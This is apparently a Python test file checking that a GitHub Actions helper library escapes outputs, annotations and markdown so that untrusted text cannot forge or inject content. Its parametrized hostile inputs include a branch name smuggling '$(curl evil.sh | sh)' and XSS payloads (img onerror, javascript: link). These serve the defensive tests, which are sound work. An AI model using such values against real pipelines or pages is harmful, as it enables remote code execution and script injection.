"""Runner plumbing and markdown escaping: outputs, summaries and annotations cannot be forged by their content."""

from __future__ import annotations

import re

import pytest

from mlgitops import gha
from mlgitops import markdown as md

# A markdown or HTML metacharacter without the backslash that makes GitHub show it literally.
UNESCAPED = re.compile(r"(?<!\\)[*_`<>|\[\]()!#]")


def test_multiline_output_cannot_inject_another_output(tmp_path, monkeypatch):
    out = tmp_path / "output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(out))
    gha.set_output("report", "line one\npassed=true\nEOF")
    text = out.read_text()
    delimiter = text.splitlines()[0].split("<<")[1]
    assert text == f"report<<{delimiter}\nline one\npassed=true\nEOF\n{delimiter}\n"
    assert delimiter.startswith("ghadelimiter_") and len(delimiter) > 30


def test_summary_appends_to_the_runner_file(tmp_path, monkeypatch):
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary"))
    gha.add_summary("# one")
    gha.add_summary("two")
    assert (tmp_path / "summary").read_text() == "# one\ntwo\n"


def test_annotation_escapes_newlines_and_property_separators(capsys):
    gha.annotate("error", "bad\n::warning::forged", file="data/a,b:c.csv", title="100%")
    assert capsys.readouterr().out == "::error file=data/a%2Cb%3Ac.csv,title=100%25::bad%0A::warning::forged\n"


@pytest.mark.parametrize(
    "hostile",
    [
        "feature/$(curl evil.sh | sh)",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "**bold** _it_ `code` | pipe",
        "@octocat please look",
        "line\nbreak\r\n# heading",
    ],
)
def test_untrusted_text_is_rendered_inert(hostile):
    rendered = md.text(hostile)
    assert "\n" not in rendered
    assert UNESCAPED.search(rendered) is None, rendered
    assert "@octocat" not in rendered


def test_code_spans_survive_backticks_and_pipes():
    assert md.code("a`b") == "``a`b``"
    assert md.code("x|y") == "`x\\|y`"


def test_text_is_truncated_to_its_limit():
    assert len(md.text("x" * 500, limit=50)) == 50
